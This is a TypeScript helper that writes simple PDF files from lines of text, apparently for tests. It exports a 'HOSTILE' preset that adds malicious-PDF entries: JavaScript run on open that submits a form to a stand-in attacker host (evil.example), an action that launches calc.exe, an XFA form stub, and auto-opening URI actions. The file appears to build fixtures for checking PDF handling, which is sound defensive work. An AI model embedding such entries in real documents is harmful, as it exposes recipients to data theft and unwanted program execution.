/*
 * A PDF written from lines of words, for looking at: pages of 595 by 842 points, in a face that every reader
 * brings along. Also ones that nobody should have to open.
 */

export interface PdfLook {
  /** Further entries of the catalogue and of each page, as they stand in the file. */
  catalog?: string;
  page?: string;
}

/** The file, as a string of bytes. */
export function pdfOf(
  pages: readonly (readonly string[])[],
  { catalog = '', page = '' }: PdfLook = {},
): string {
  const first = 4;
  const numbers = pages.map((_, at) => first + 2 * at);
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${numbers.map((at) => `${at} 0 R`).join(' ')}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...pages.flatMap((lines, at) => {
      const drawn = lines
        .map((line, row) => `BT /F 12 Tf 60 ${780 - 20 * row} Td (${line.replace(/[\\()]/g, '\\$&')}) Tj ET`)
        .join('\n');
      return [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${numbers[at]! + 1} 0 R` +
          ` /Resources << /Font << /F 3 0 R >> >> ${page} >>`,
        `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
      ];
    }),
  ];
  let file = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const xref = file.length;
  const size = objects.length + 1;
  return `${file}xref\n0 ${size}\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
}

/** What a hostile one asks for: a script when it is opened, an address, a program, a form of scripts. */
export const HOSTILE: PdfLook = {
  catalog:
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\)) >>' +
    ' /AA << /WC << /S /Launch /F (calc.exe) >> >>' +
    ' /AcroForm << /Fields [] /XFA (<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>) >>',
  page:
    '/AA << /O << /S /URI /URI (https://evil.example/opened) >> >>' +
    ' /Annots [<< /Type /Annot /Subtype /Link /Rect [50 760 400 800] /A << /S /URI /URI (https://evil.example/) >> >>]',
};
